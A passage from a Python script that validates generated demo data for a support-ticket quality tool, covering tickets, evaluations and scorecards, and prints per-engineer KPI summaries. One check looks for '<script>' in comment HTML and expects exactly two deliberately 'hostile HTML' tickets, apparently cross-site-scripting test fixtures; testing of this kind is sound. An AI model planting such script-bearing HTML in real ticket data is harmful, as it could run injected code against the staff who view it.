        n_notes += notes
        n_tickets_notes += 1 if notes else 0
        n_en += 1 if "lang_en" in t["tags"] else 0
        chan = t["via"]["channel"]
        if (group == "calls") != (chan == "voice") or (group == "chats") != (chan == "chat"):
            errors.append(f"{where}: channel {chan} does not fit team {group}")
        if t["status"] in ("solved", "closed"):
            m = metrics.get(tid)
            if not m:
                errors.append(f"{where}: solved without metric_set")
            elif parse_iso(m["solved_at"]) <= times[-1] or parse_iso(m["solved_at"]) > parse_iso(t["updated_at"]):
                errors.append(f"{where}: solved_at not after the last comment / after updated_at")
        elif tid in metrics:
            errors.append(f"{where}: unsolved ticket has a metric_set")
        sr = t.get("satisfaction_rating")
        if sr and sr["score"] not in ("good", "bad", "offered", "unoffered"):
            errors.append(f"{where}: bad satisfaction score")
    hostile = [t["id"] for t in zd["tickets"] if any("<script>" in c["html_body"] for c in t["comments"])]
    if len(hostile) != 2:
        errors.append(f"tickets: expected 2 tickets with hostile HTML, found {hostile}")

    # evaluations
    if evs.get("format") != "qadesk.evaluations/1":
        errors.append("evaluations.json: bad format")
    normal_per_ticket, per_engineer = {}, {}
    scores = {}
    for i, e in enumerate(evs["evaluations"]):
        where = f"evaluations[{i}] (ticket {e.get('ticket')})"
        extra = set(e) - {"ticket", "source", "engineer", "trainer", "scorecard", "submitted_at", "kind",
                          "comment", "answers"}
        if extra:
            errors.append(f"{where}: unknown fields {sorted(extra)}")
        t = tickets.get(e["ticket"])
        if not t:
            errors.append(f"{where}: unknown ticket")
            continue
        if t["status"] not in ("solved", "closed"):
            errors.append(f"{where}: ticket is not solved")
            continue
        assignee = users[t["assignee_id"]]["email"]
        if e["engineer"] != assignee:
            errors.append(f"{where}: engineer {e['engineer']} is not the assignee {assignee}")
        if e["engineer"] not in engineers:
            errors.append(f"{where}: engineer not in people.json")
        if e["trainer"] not in trainers or e["trainer"] == e["engineer"]:
            errors.append(f"{where}: trainer {e['trainer']} is not a trainer")
        card = cards.get(e["scorecard"])
        if not card:
            errors.append(f"{where}: unknown scorecard")
            continue
        if not card_applies(card, t, groups[t["group_id"]]):
            errors.append(f"{where}: scorecard {card['id']} does not apply to the ticket")
        if t["id"] not in metrics:
            continue                      # reported above as "solved without metric_set"
        if parse_iso(e["submitted_at"]) <= parse_iso(metrics[t["id"]]["solved_at"]):
            errors.append(f"{where}: submitted before the ticket was solved")
        if parse_iso(e["submitted_at"]) > parse_iso(metrics[t["id"]]["solved_at"]) + dt.timedelta(days=5):
            errors.append(f"{where}: submitted more than 5 days after solved_at")
        if e["kind"] not in ("normal", "calibration"):
            errors.append(f"{where}: bad kind")
        if "comment" in e and not e["comment"].strip():
            errors.append(f"{where}: blank overall comment")
        crits = {c["id"]: c for s in card["sections"] for c in s["criteria"]}
        ans = e["answers"]
        for cid in set(ans) - set(crits):
            errors.append(f"{where}: answer for unknown criterion {cid}")
        for cid, c in crits.items():
            a = ans.get(cid)
            if a is None:
                errors.append(f"{where}: criterion {cid} not answered")
                continue
            if set(a) - {"value", "comment"}:
                errors.append(f"{where}: {cid}: unknown answer fields")
            if a.get("value") not in VALUES:
                errors.append(f"{where}: {cid}: bad value {a.get('value')!r}")
            if a.get("value") == "na" and not c.get("na_allowed", True):
                errors.append(f"{where}: {cid}: N/A not allowed")
            if "comment" in a and not str(a["comment"]).strip():
                errors.append(f"{where}: {cid}: blank comment")
        res = score_evaluation(card, ans)
        if not res["complete"]:
            errors.append(f"{where}: incomplete, missing comments {res['missing_comments']}")
        if e["kind"] == "normal":
            normal_per_ticket[e["ticket"]] = normal_per_ticket.get(e["ticket"], 0) + 1
        per_engineer[e["engineer"]] = per_engineer.get(e["engineer"], 0) + 1
        scores.setdefault(e["engineer"], []).append((e["kind"], res))
    for tid, n in normal_per_ticket.items():
        if n > 1:
            errors.append(f"ticket {tid}: {n} normal evaluations")
    for e in evs["evaluations"]:
        if e["kind"] == "calibration":
            normals = [x for x in evs["evaluations"] if x["ticket"] == e["ticket"] and x["kind"] == "normal"]
            if not normals or any(x["trainer"] == e["trainer"] for x in normals):
                errors.append(f"calibration on ticket {e['ticket']}: needs a normal evaluation by another trainer")
            elif parse_iso(e["submitted_at"]) <= parse_iso(normals[0]["submitted_at"]):
                errors.append(f"calibration on ticket {e['ticket']}: submitted before the normal evaluation")
    for eng in engineers:
        n = per_engineer.get(eng, 0)
        if not 5 <= n <= 9:
            errors.append(f"{eng}: {n} evaluations (want 5-9)")
    size = os.path.getsize(os.path.join(out, "tickets.zendesk.json"))
    if size > MAX_TICKETS_BYTES:
        errors.append(f"tickets.zendesk.json is {size} bytes (> {MAX_TICKETS_BYTES})")
    stats = {"tickets": len(zd["tickets"]), "comments": n_comments, "notes": n_notes,
             "tickets_with_notes": n_tickets_notes, "en": n_en, "size": size,
             "solved": sum(1 for t in zd["tickets"] if t["status"] in ("solved", "closed")),
             "rated": sum(1 for t in zd["tickets"] if "satisfaction_rating" in t),
             "escalated": sum(1 for t in zd["tickets"] if "escalated" in t["tags"]),
             "customers": sum(1 for u in zd["users"] if u["role"] == "end-user"),
             "evaluations": len(evs["evaluations"]),
             "calibrations": sum(1 for e in evs["evaluations"] if e["kind"] == "calibration"),
             "critical": sum(1 for e in evs["evaluations"]
                             if score_evaluation(cards[e["scorecard"]], e["answers"])["critical_failed"]),
             "hostile": hostile}
    return errors, stats, scores, engineers


def print_summary(stats, scores, engineers):
    print("Demo workspace:")
    print(f"  tickets            {stats['tickets']} ({stats['solved']} solved/closed, {stats['en']} in English, "
          f"{stats['escalated']} escalated L1→L2, {stats['rated']} with satisfaction_rating)")
    print(f"  comments           {stats['comments']} ({stats['notes']} internal notes in "
          f"{stats['tickets_with_notes']} tickets)")
    print(f"  customers          {stats['customers']}")
    print(f"  hostile HTML       tickets {stats['hostile']}")
    print(f"  evaluations        {stats['evaluations']} ({stats['calibrations']} calibration, "
          f"{stats['critical']} with a critical fail)")
    print(f"  tickets.zendesk.json {stats['size']} bytes")
    print("Per-engineer KPI (mean final score of normal, scored evaluations):")
    for email, p in engineers.items():
        rs = [r for k, r in scores.get(email, []) if k == "normal" and r["scored"]]
        cal = sum(1 for k, _ in scores.get(email, []) if k == "calibration")
        mean = sum(r["score"] for r in rs) / len(rs) if rs else float("nan")
        crit = sum(1 for r in rs if r["critical_failed"])
        extra = (f", {crit} critical" if crit else "") + (f", +{cal} calibration" if cal else "")
        print(f"  {p['name']:<20} {p['teams'][0]:<14} {mean:6.1f}  ({len(rs)} evals{extra})")


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--out", default=DEFAULT_OUT)
    ap.add_argument("--vectors", help="also check the scoring code against scoring-vectors.json")
    ap.add_argument("--check-only", action="store_true", help="validate existing files, do not generate")
    args = ap.parse_args()
    ok = True
    if args.vectors:
        ok = check_vectors(args.vectors) and ok
    if not args.check_only:
        write_all(args.out, generate())
    errors, stats, scores, engineers = validate(args.out)
    print_summary(stats, scores, engineers)
    for e in errors:
        print("ERROR:", e, file=sys.stderr)
    if errors or not ok:
        print(f"{len(errors)} problem(s)", file=sys.stderr)
        return 1
    print("validation: OK")
    return 0


if __name__ == "__main__":
    sys.exit(main())
